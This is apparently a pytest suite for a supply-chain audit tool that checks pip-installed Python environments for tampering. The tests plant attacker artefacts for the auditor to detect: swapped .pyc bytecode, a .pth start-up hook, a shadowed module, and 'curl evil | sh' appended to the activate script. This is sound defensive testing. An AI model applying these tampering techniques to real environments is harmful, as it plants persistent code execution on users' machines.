"""spip audit on environments installed by plain pip from a local index, then tampered.

Each test leaves what an attacker would leave (a replaced .pyc, an extra module, a new .pth, a
module shadowed by another distribution, an edited console script, a RECORD entry pointing
out of the environment) and asserts the audit names the file and its verdict; an untampered
environment exits 0 once its sdist-built distribution is accepted.  The index (pypiserver)
answers HTTP range requests, so wheels' RECORD files are read without whole downloads.
"""

from __future__ import annotations

import json
import os
import subprocess
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from tests.support.environment import clean_env, make_venv, plain_pip, run_spip, site_packages
from tests.support.packages import build_sdist, build_wheel, metadata_text, write_wheel
from tests.support.servers import IndexServer, start_server, start_static_server
from tests.support.static_index import write_static_index

pytestmark = pytest.mark.slow

TOOL_MAIN = "def main():\n    print('tool ran')\n"
ENTRY_POINTS = "[console_scripts]\ntoolpkg-run = toolpkg:main\n"


def build_packages(root: Path) -> Path:
    """The audit index: plain wheels, a console script, a shadowing wheel, an sdist, a big one."""
    build_wheel(
        root, "basepkg", "1.0.0", modules={"basepkg/util.py": "def helper():\n    return 1\n"}
    )
    write_wheel(
        root,
        "toolpkg",
        "1.0.0",
        {
            "toolpkg/__init__.py": TOOL_MAIN,
            "toolpkg-1.0.0.dist-info/entry_points.txt": ENTRY_POINTS,
        },
        metadata_text("toolpkg", "1.0.0"),
    )
    # A distribution that ships another distribution's module (module shadowing).
    write_wheel(
        root,
        "shadowpkg",
        "1.0.0",
        {"shadowpkg/__init__.py": "", "basepkg/__init__.py": "print('shadowed')\n"},
        metadata_text("shadowpkg", "1.0.0"),
    )
    build_sdist(root, "legacy-sdist", "1.0.0")
    blob = os.urandom(150_000)  # incompressible: the wheel is big, its RECORD small
    files: dict[str, bytes | str] = {"bigpkg/__init__.py": "", "bigpkg/blob.bin": blob}
    write_wheel(root, "bigpkg", "1.0.0", files, metadata_text("bigpkg", "1.0.0"))
    return root


@dataclass
class AuditIndex:
    server: IndexServer
    packages: Path

    @property
    def url(self) -> str:
        return self.server.url

    def wheel_bytes(self, *names: str) -> int:
        return sum(
            p.stat().st_size
            for p in self.packages.glob("*.whl")
            if p.name.split("-", 1)[0].replace("_", "-") in names
        )


@pytest.fixture(scope="module")
def audit_index(tmp_path_factory: pytest.TempPathFactory) -> Iterator[AuditIndex]:
    root = tmp_path_factory.mktemp("audit-index")
    packages = build_packages(root / "packages")
    server = start_server(packages, root / "server")
    try:
        yield AuditIndex(server, packages)
    finally:
        server.stop()


@pytest.fixture
def env(tmp_path: Path) -> dict[str, str]:
    return clean_env(tmp_path)


@pytest.fixture
def venv(tmp_path: Path) -> Path:
    return make_venv(tmp_path / "target")


def write_map(path: Path, url: str, extra: str = "") -> Path:
    path.write_text(f'default = "audit"\n[indexes.audit]\nurl = "{url}"\n{extra}')
    return path


def pip_install(env: dict[str, str], venv: Path, url: str, *names: str) -> None:
    """What most people do: plain pip from the index (pip builds the sdist itself)."""
    args = ("--disable-pip-version-check", "--index-url", url, *names)
    done = plain_pip(venv, env, *args, check=False)
    assert done.returncode == 0, done.stderr


def audit(
    env: dict[str, str], spip_map: Path, venv: Path, *extra: str, fmt: str = "json"
) -> tuple[int, Any]:
    result = run_spip(
        [
            "audit",
            "--map",
            str(spip_map),
            "--python",
            str(venv),
            "--format",
            fmt,
            "--no-exposure",
            *extra,
        ],
        env,
        cwd=spip_map.parent,
    )
    assert result.returncode in (0, 1), result.stderr
    return result.returncode, json.loads(result.stdout)


def packages(report: dict[str, Any]) -> dict[str, dict[str, Any]]:
    return {p["name"]: p for p in report["packages"]}


def bad_files(report: dict[str, Any]) -> dict[str, dict[str, Any]]:
    return {f["path"]: f for f in report["files"] if f["verdict"] not in ("verified", "accepted")}


@pytest.fixture
def installed(
    audit_index: AuditIndex, env: dict[str, str], venv: Path, tmp_path: Path
) -> tuple[Path, Path]:
    """An environment installed by plain pip, and a map for it: (map, site-packages)."""
    pip_install(env, venv, audit_index.url, "basepkg", "toolpkg", "legacy-sdist", "bigpkg")
    return write_map(tmp_path / "spip.toml", audit_index.url), site_packages(venv)


def test_untampered_environment_exits_0_once_the_sdist_is_accepted(
    installed: tuple[Path, Path], env: dict[str, str], venv: Path, audit_index: AuditIndex
) -> None:
    spip_map, _site = installed
    code, report = audit(env, spip_map, venv)
    assert code == 1
    assert packages(report)["legacy-sdist"]["verdict"] == "unverifiable"
    assert bad_files(report) == {}
    code, report = audit(env, spip_map, venv, "--accept", "legacy-sdist==1.0.0")
    assert code == 0, report
    found = packages(report)
    assert {n: p["verdict"] for n, p in found.items()} == {
        "basepkg": "verified",
        "bigpkg": "verified",
        "legacy-sdist": "accepted",
        "toolpkg": "verified",
    }
    assert report["schema"] == 2
    assert report["summary"]["packages"] == {"accepted": 1, "verified": 3}
    assert report["checked"]["bytecode"] > 0 and report["checked"]["scripts"] > 0
    # The accept list in the map does the same; an accepted version that is not installed
    # does not accept it.
    write_map(spip_map, audit_index.url, '[audit]\naccept = ["legacy-sdist"]\n')
    assert audit(env, spip_map, venv)[0] == 0
    code, report = audit(env, spip_map, venv, "--accept", "basepkg")
    assert code == 0 and packages(report)["basepkg"]["verdict"] == "verified"
    write_map(spip_map, audit_index.url, '[audit]\naccept = ["legacy-sdist==2.0"]\n')
    code, report = audit(env, spip_map, venv)
    assert code == 1 and any("legacy-sdist==2" in n for n in report["notes"])


def test_replaced_bytecode_with_its_header_kept_is_a_mismatch(
    installed: tuple[Path, Path], env: dict[str, str], venv: Path
) -> None:
    spip_map, site = installed
    pyc = next((site / "basepkg" / "__pycache__").glob("__init__.*.pyc"))
    evil = compile("print('PWNED')\nVERSION = '1.0.0'\n", str(site / "basepkg/__init__.py"), "exec")
    import marshal

    pyc.write_bytes(pyc.read_bytes()[:16] + marshal.dumps(evil))
    ran = subprocess.run([str(venv), "-c", "import basepkg"], capture_output=True, text=True)
    assert ran.stdout.strip() == "PWNED"  # Python loads the replaced bytecode
    code, report = audit(env, spip_map, venv, "--accept", "legacy-sdist")
    assert code == 1
    finding = bad_files(report)[str(pyc)]
    assert (finding["kind"], finding["verdict"]) == ("bytecode", "mismatch")
    assert finding["owners"] == ["basepkg"] and "Python loads it" in finding["reason"]
    assert packages(report)["basepkg"]["verdict"] == "verified"  # its .py files are intact


def test_unowned_module_in_a_package_is_reported(
    installed: tuple[Path, Path], env: dict[str, str], venv: Path
) -> None:
    spip_map, site = installed
    extra = site / "basepkg" / "evil_extra.py"
    extra.write_text("import os\n")
    code, report = audit(env, spip_map, venv, "--accept", "legacy-sdist")
    assert code == 1
    finding = bad_files(report)[str(extra)]
    assert (finding["kind"], finding["verdict"], finding["owners"]) == ("file", "unowned", [])


def test_new_pth_with_an_import_line_is_reported_and_never_run(
    installed: tuple[Path, Path], env: dict[str, str], venv: Path, tmp_path: Path
) -> None:
    spip_map, site = installed
    marker = tmp_path / "pth-ran"
    pth = site / "zzz-evil.pth"
    pth.write_text(f"import pathlib; pathlib.Path({str(marker)!r}).write_text('ran')\n")
    code, report = audit(env, spip_map, venv, "--accept", "legacy-sdist")
    assert code == 1
    finding = bad_files(report)[str(pth)]
    assert (finding["kind"], finding["verdict"], finding["executes"]) == ("pth", "unowned", True)
    assert not marker.exists()  # the audit never ran the environment's start-up code


def test_module_overwritten_by_another_distribution_names_the_writer(
    audit_index: AuditIndex, env: dict[str, str], venv: Path, tmp_path: Path
) -> None:
    pip_install(env, venv, audit_index.url, "basepkg")
    pip_install(env, venv, audit_index.url, "shadowpkg")
    spip_map = write_map(tmp_path / "spip.toml", audit_index.url)
    code, report = audit(env, spip_map, venv)
    assert code == 1
    base = packages(report)["basepkg"]
    assert base["verdict"] == "mismatch"
    assert base["files"] == ["basepkg/__init__.py (overwritten by shadowpkg)"]
    shared = bad_files(report)[str(site_packages(venv) / "basepkg" / "__init__.py")]
    assert shared["owners"] == ["basepkg", "shadowpkg"] and shared["verdict"] == "mismatch"
    assert "written by shadowpkg" in shared["reason"]


def test_changed_console_script_is_a_mismatch(
    installed: tuple[Path, Path], env: dict[str, str], venv: Path
) -> None:
    spip_map, _site = installed
    script = venv.parent / "toolpkg-run"
    script.write_text(script.read_text() + "import os  # backdoor\n")
    code, report = audit(env, spip_map, venv, "--accept", "legacy-sdist")
    assert code == 1
    tool = packages(report)["toolpkg"]
    assert tool["verdict"] == "mismatch" and tool["files"] == ["../../../bin/toolpkg-run"]
    finding = bad_files(report)[str(script)]
    assert (finding["kind"], finding["verdict"], finding["owners"]) == (
        "script",
        "mismatch",
        ["toolpkg"],
    )


def test_new_file_in_the_scripts_directory_is_unowned(
    installed: tuple[Path, Path], env: dict[str, str], venv: Path
) -> None:
    spip_map, _site = installed
    dropped = venv.parent / "pip-helper"
    dropped.write_text("#!/bin/sh\necho hi\n")
    activate = venv.parent / "activate"
    activate.write_text(activate.read_text() + "curl evil | sh\n")
    code, report = audit(env, spip_map, venv, "--accept", "legacy-sdist")
    assert code == 1
    found = bad_files(report)
    assert (found[str(dropped)]["kind"], found[str(dropped)]["verdict"]) == ("script", "unowned")
    assert (found[str(activate)]["kind"], found[str(activate)]["verdict"]) == (
        "environment",
        "unverifiable",
    )
    assert set(found) == {str(dropped), str(activate)}


def test_record_entry_outside_the_environment_is_reported_not_read(
    installed: tuple[Path, Path], env: dict[str, str], venv: Path
) -> None:
    spip_map, site = installed
    record = next(site.glob("basepkg-*.dist-info")) / "RECORD"
    record.write_text(record.read_text() + "../../../../../../../../etc/hostname,sha256=AAAA,4\n")
    code, report = audit(env, spip_map, venv, "--accept", "legacy-sdist")
    assert code == 1
    finding = next(f for f in report["files"] if f["kind"] == "record-entry")
    assert finding["root"] == "outside" and finding["owners"] == ["basepkg"]
    assert finding["path"] == "../../../../../../../../etc/hostname"
    assert finding["verdict"] == "mismatch"


def test_range_requests_read_less_than_the_wheels(
    installed: tuple[Path, Path], env: dict[str, str], venv: Path, audit_index: AuditIndex
) -> None:
    spip_map, _site = installed
    wheels = audit_index.wheel_bytes("basepkg", "toolpkg", "bigpkg")
    code, report = audit(env, spip_map, venv, "--accept", "legacy-sdist")
    assert code == 0
    transfer = report["transfer"]
    assert transfer["range_requests"] >= 3 and transfer["downloads"] == 0
    assert transfer["wheels_bytes"] == wheels
    assert transfer["range_bytes"] < wheels
    assert packages(report)["bigpkg"]["record_source"] == "range"
    code, report = audit(env, spip_map, venv, "--accept", "legacy-sdist", "--full-download")
    assert code == 0
    assert report["transfer"]["download_bytes"] == wheels
    assert report["transfer"]["range_requests"] == 0


def test_index_without_range_support_falls_back_to_whole_wheels(
    audit_index: AuditIndex, env: dict[str, str], venv: Path, tmp_path: Path
) -> None:
    pip_install(env, venv, audit_index.url, "basepkg", "bigpkg")
    write_static_index(audit_index.packages, tmp_path / "static")
    static = start_static_server(tmp_path / "static", tmp_path / "static-server")
    try:
        spip_map = write_map(tmp_path / "spip.toml", static.url)
        code, report = audit(env, spip_map, venv)
        assert code == 0, report
        assert report["transfer"]["downloads"] == 2
        assert report["transfer"]["download_bytes"] == audit_index.wheel_bytes("basepkg", "bigpkg")
        assert {p["record_source"] for p in report["packages"]} == {"download"}
    finally:
        static.stop()


def test_sarif_and_cyclonedx_validate_against_their_schemas(
    installed: tuple[Path, Path], env: dict[str, str], venv: Path
) -> None:
    from tests.support.schemas import validate_cyclonedx, validate_sarif

    spip_map, site = installed
    (site / "zzz-evil.pth").write_text("import os\n")
    code, sarif = audit(env, spip_map, venv, fmt="sarif")
    assert code == 1
    validate_sarif(sarif)
    results = sarif["runs"][0]["results"]
    assert {r["ruleId"] for r in results} >= {"pth", "unverifiable"}
    code, bom = audit(env, spip_map, venv, "--accept", "legacy-sdist", fmt="cyclonedx")
    assert code == 1
    validate_cyclonedx(bom)
    components = {c["name"]: c for c in bom["components"]}
    big = {p["name"]: p["value"] for p in components["bigpkg"]["properties"]}
    assert big["spip:index"] == "audit" and big["spip:verdict"] == "verified"
    assert components["bigpkg"]["hashes"][0]["alg"] == "SHA-256"
    assert {p["name"]: p["value"] for p in components["legacy-sdist"]["properties"]}[
        "spip:verdict"
    ] == "accepted"
